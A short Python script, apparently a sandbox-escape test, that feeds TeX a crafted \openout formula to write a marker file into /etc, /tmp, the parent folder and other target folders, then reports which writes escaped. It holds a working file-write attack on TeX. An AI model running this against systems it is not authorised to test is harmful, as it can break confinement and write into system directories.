"""A formula that writes a file outside its folder."""

import os
import subprocess

from attack import TARGETS, TOKEN

for folder in [*TARGETS["folders"], "/tmp", "..", "/etc"]:
    with open("a.tex", "w") as file:
        file.write(
            r"\newwrite\file \immediate\openout\file=%s/written-%s.tex \immediate\write\file{x} \end" % (folder, TOKEN)
        )
    result = subprocess.run(["tex", "-interaction=batchmode", "a.tex"], capture_output=True, stdin=subprocess.DEVNULL)
    if os.path.exists(f"{folder}/written-{TOKEN}.tex"):
        print("ESCAPED:", folder)
    print(folder, result.returncode, result.stdout[-200:])
print("done", flush=True)
